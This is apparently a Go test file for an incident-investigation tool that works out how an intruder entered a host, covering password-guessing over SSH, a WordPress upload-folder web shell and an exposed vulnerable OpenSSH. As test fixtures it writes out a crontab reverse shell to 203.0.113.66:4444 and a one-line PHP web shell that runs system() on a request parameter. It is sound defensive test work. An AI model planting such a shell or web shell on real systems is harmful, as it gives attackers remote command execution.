package loophole

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nowwhat/nowwhat/internal/base/fixture"
	"github.com/nowwhat/nowwhat/internal/stage/check"
	"github.com/nowwhat/nowwhat/internal/stage/investigate"
)

func syslog(t time.Time, msg string) string {
	return t.UTC().Format("Jan _2 15:04:05") + " web1 " + msg + "\n"
}

func run(t *testing.T, r *fixture.Root, osv string) *Report {
	t.Helper()
	inv, err := investigate.Run(context.Background(), investigate.Options{Check: check.Options{Root: r.Dir}})
	if err != nil {
		t.Fatal(err)
	}
	rep, err := Run(context.Background(), Options{Root: r.Dir, OSVDir: osv, Investigation: inv})
	if err != nil {
		t.Fatal(err)
	}
	var text bytes.Buffer
	rep.WriteText(&text)
	t.Log("\n" + text.String())
	return rep
}

func hole(rep *Report, id string) *Hole {
	for i := range rep.Holes {
		if rep.Holes[i].ID == id {
			return &rep.Holes[i]
		}
	}
	return nil
}

// BruteForceRoot: 40 guesses then a success for deploy from the same address, with Debian's
// sshd_config and a drop-in that turns passwords on, as cloud images do.
func bruteForceRoot(t *testing.T) *fixture.Root {
	r := fixture.Debian(t)
	r.File("/etc/timezone", "Etc/UTC\n", 0o644)
	t0 := time.Now().UTC().Add(-30 * time.Minute).Truncate(time.Second)
	var log strings.Builder
	for i := 0; i < 40; i++ {
		log.WriteString(syslog(t0.Add(time.Duration(i)*time.Second), fmt.Sprintf("sshd[%d]: Failed password for deploy from 203.0.113.66 port %d ssh2", 100+i, 40000+i)))
	}
	log.WriteString(syslog(t0.Add(41*time.Second), "sshd[200]: Accepted password for deploy from 203.0.113.66 port 41000 ssh2"))
	r.File("/var/log/auth.log", log.String(), 0o640)
	r.User("deploy", 1001, "/home/deploy", "/bin/bash", "$y$j9T$salt$hash")
	r.File("/etc/ssh/sshd_config.d/50-cloud-init.conf", "PasswordAuthentication yes\n", 0o644)
	r.File("/var/spool/cron/crontabs/deploy", "* * * * * bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'\n", 0o600)
	return r
}

func TestSSHBruteForce(t *testing.T) {
	r := bruteForceRoot(t)
	rep := run(t, r, "")
	h := hole(rep, "ssh-password-login")
	if h == nil || !h.Used || h.Subject != "deploy" || h.Confidence != "high" {
		t.Fatalf("hole %+v", h)
	}
	ev := strings.Join(h.Evidence, "\n")
	for _, want := range []string{"PasswordAuthentication yes (/etc/ssh/sshd_config.d/50-cloud-init.conf:1)", "nothing slows password guessing",
		"account deploy: password set (yescrypt)", "never expires"} {
		if !strings.Contains(ev, want) {
			t.Errorf("evidence lacks %q:\n%s", want, ev)
		}
	}
	if strings.Contains(ev, "$y$j9T$salt$hash") {
		t.Error("the password hash is in the report")
	}
	if !strings.Contains(strings.Join(h.Fixes, ","), "ssh-no-password") {
		t.Errorf("fixes %v", h.Fixes)
	}
	sshUsed := false
	for _, x := range rep.Exposure {
		sshUsed = sshUsed || x.Service == "sshd" && x.Used && x.Public
	}
	if !sshUsed {
		t.Errorf("exposure %+v", rep.Exposure)
	}

	// The same intrusion, but sshd allows no passwords now (and fail2ban guards it): the hole is
	// still named from the logs, with less confidence, and the configuration says why.
	r.File("/etc/ssh/sshd_config.d/50-cloud-init.conf", "PasswordAuthentication no\n", 0o644)
	r.File("/etc/fail2ban/jail.d/sshd.local", "[sshd]\nenabled = true\n", 0o644)
	h = hole(run(t, r, ""), "ssh-password-login")
	if h == nil || h.Confidence != "medium" || !strings.Contains(strings.Join(h.Evidence, "\n"), "fail2ban's sshd jail is enabled") {
		t.Errorf("after the change: %+v", h)
	}
}

// TestNoEntryNoBlame: a host with passwords on but no break-in gets no "used" hole.
func TestNoEntryNoBlame(t *testing.T) {
	r := fixture.Debian(t)
	r.File("/etc/ssh/sshd_config.d/50-cloud-init.conf", "PasswordAuthentication yes\n", 0o644)
	rep := run(t, r, "")
	if len(rep.Used()) != 0 {
		t.Fatalf("holes used without an intrusion: %+v", rep.Used())
	}
	if h := hole(rep, "ssh-password-login"); h == nil || h.Confidence != "low" {
		t.Errorf("the open password login is not listed as a low-confidence hole: %+v", h)
	}
}

func webShellRoot(t *testing.T, nginxSite string) *fixture.Root {
	r := fixture.Debian(t)
	t0 := time.Now().UTC().Add(-2 * time.Hour)
	stamp := func(t time.Time) string { return t.Format("02/Jan/2006:15:04:05 -0700") }
	var log strings.Builder
	for i := 0; i < 20; i++ {
		fmt.Fprintf(&log, "198.51.100.%d - - [%s] \"GET /index.php HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0\"\n", i+1, stamp(t0.Add(time.Duration(i)*time.Minute)))
	}
	fmt.Fprintf(&log, "203.0.113.80 - - [%s] \"POST /wp-admin/async-upload.php HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n", stamp(t0.Add(30*time.Minute)))
	fmt.Fprintf(&log, "203.0.113.80 - - [%s] \"GET /wp-content/uploads/2026/11/thumb.php?c=id HTTP/1.1\" 200 64 \"-\" \"Mozilla/5.0\"\n", stamp(t0.Add(31*time.Minute)))
	r.File("/var/log/nginx/access.log", log.String(), 0o640)
	r.File("/var/www/html/wp-content/uploads/2026/11/thumb.php", "<?php if(isset($_REQUEST['c'])){ echo '<pre>'; system($_REQUEST['c']); } ?>", 0o644)
	r.File("/var/www/html/wp-includes/version.php", "<?php\n$wp_version = '6.4.2';\n", 0o644)
	r.File("/etc/nginx/nginx.conf", "events {}\nhttp {\n  include /etc/nginx/sites-enabled/*;\n}\n", 0o644)
	r.File("/etc/nginx/snippets/fastcgi-php.conf", "fastcgi_split_path_info ^(.+?\\.php)(/.*)$;\ninclude fastcgi.conf;\n", 0o644)
	r.File("/etc/nginx/sites-enabled/default", nginxSite, 0o644)
	return r
}

const wordpressSite = `server {
	listen 80 default_server;
	listen [::]:80 default_server;
	root /var/www/html;
	index index.php;
	location / { try_files $uri $uri/ /index.php?$args; }
	location ~ \.php$ {
		include snippets/fastcgi-php.conf;
		fastcgi_pass unix:/run/php/php8.2-fpm.sock;
	}
}
`

func TestWebShellUploadFolder(t *testing.T) {
	rep := run(t, webShellRoot(t, wordpressSite), "")
	h := hole(rep, "web-upload-php")
	if h == nil || !h.Used || h.Subject != "/var/www/html/wp-content/uploads" || h.Confidence != "high" {
		t.Fatalf("hole %+v", h)
	}
	if ev := strings.Join(h.Evidence, "\n"); !strings.Contains(ev, `location ~ \.php$ (first regular expression that matches) passes it to PHP`) {
		t.Errorf("evidence:\n%s", ev)
	}
	// A site that refuses PHP in uploads before the PHP location: the upload folder is not the
	// hole (the web shell came another way).
	closed := strings.Replace(wordpressSite, "\tlocation ~ \\.php$ {", "\tlocation ~* ^/wp-content/uploads/.*\\.php$ { deny all; }\n\tlocation ~ \\.php$ {", 1)
	h = hole(run(t, webShellRoot(t, closed), ""), "web-upload-php")
	if h == nil || h.Used || !strings.Contains(strings.Join(h.Evidence, "\n"), "refuses it") {
		t.Errorf("closed site: %+v", h)
	}
}

func TestApachePHP(t *testing.T) {
	r := fixture.Debian(t)
	r.File("/etc/apache2/apache2.conf", "IncludeOptional sites-enabled/*.conf\n", 0o644)
	r.File("/etc/apache2/mods-enabled/php8.2.load", "LoadModule php_module /usr/lib/apache2/modules/libphp8.2.so\n", 0o644)
	r.MkdirAll("/var/www/html/wp-content/uploads", 0o755)
	fsys := openFS(t, r.Dir)
	if res := ApachePHP(fsys, "/var/www/html/wp-content/uploads"); res == nil || !res.Executes {
		t.Fatalf("php module on, nothing turning it off: %+v", res)
	}
	r.File("/var/www/html/wp-content/uploads/.htaccess", "<FilesMatch \"\\.ph(p[3-7]?|tml|ar)$\">\n  Require all denied\n</FilesMatch>\n", 0o644)
	if res := ApachePHP(fsys, "/var/www/html/wp-content/uploads/2026"); res == nil || res.Executes {
		t.Fatalf(".htaccess refusing php: %+v", res)
	}
}

// TestRegreSSHionExposed: an old openssh in the dpkg status, sshd listening on every address,
// and the OSV records: CVE-2024-6387 is named as a hole of the exposed sshd.
func TestRegreSSHionExposed(t *testing.T) {
	r := fixture.Debian(t)
	r.Source("openssh-server", "1:9.2p1-2+deb12u2", "openssh")
	rep := run(t, r, osvData(t))
	h := hole(rep, "vulnerable-service")
	if h == nil || h.Subject != "openssh" || !strings.Contains(strings.Join(h.CVEs, ","), "CVE-2024-6387") || !strings.Contains(h.Title, "DSA-5724-1") {
		t.Fatalf("hole %+v\nall %+v", h, rep.Holes)
	}
	if !strings.Contains(h.Why, "1:9.2p1-2+deb12u3") {
		t.Errorf("the fixed version is not said: %s", h.Why)
	}
	// Listening on loopback only: a flaw, but not an exposed one.
	r.Append("/etc/ssh/sshd_config", "ListenAddress 127.0.0.1\n")
	if h := hole(run(t, r, osvData(t)), "vulnerable-service"); h != nil {
		t.Errorf("an sshd on loopback reported as exposed: %+v", h)
	}
}

func osvData(t *testing.T) string {
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, "Debian"), 0o755)
	f, err := os.Create(filepath.Join(dir, "Debian", "all.zip"))
	if err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(f)
	recs, _ := filepath.Glob("../../detect/vulns/testdata/osv/Debian/*.json")
	if len(recs) == 0 {
		t.Fatal("no test records")
	}
	for _, p := range recs {
		data, _ := os.ReadFile(p)
		w, _ := zw.Create(filepath.Base(p))
		w.Write(data)
	}
	zw.Close()
	f.Close()
	return dir
}

func TestParseNginx(t *testing.T) {
	bs := ParseNginx([]byte("# c\nhttp { server { listen 80; location ~ \"\\.php$\" { fastcgi_pass 127.0.0.1:9000; } } }\nunclosed {"), "x")
	var listens, locs int
	each(bs, "listen", func(*Block) { listens++ })
	each(bs, "location", func(b *Block) {
		locs++
		if b.Args[1] != `\.php$` || b.Line != 2 {
			t.Errorf("location %+v", b)
		}
	})
	if listens != 1 || locs != 1 {
		t.Errorf("listens %d locations %d", listens, locs)
	}
}

func FuzzParseNginx(f *testing.F) {
	f.Add([]byte(wordpressSite))
	f.Add([]byte("a {{{ ; } } \" unterminated"))
	f.Fuzz(func(t *testing.T, data []byte) {
		bs := ParseNginx(data, "f")
		NginxPHP(bs, "/var/www/html/x")
	})
}
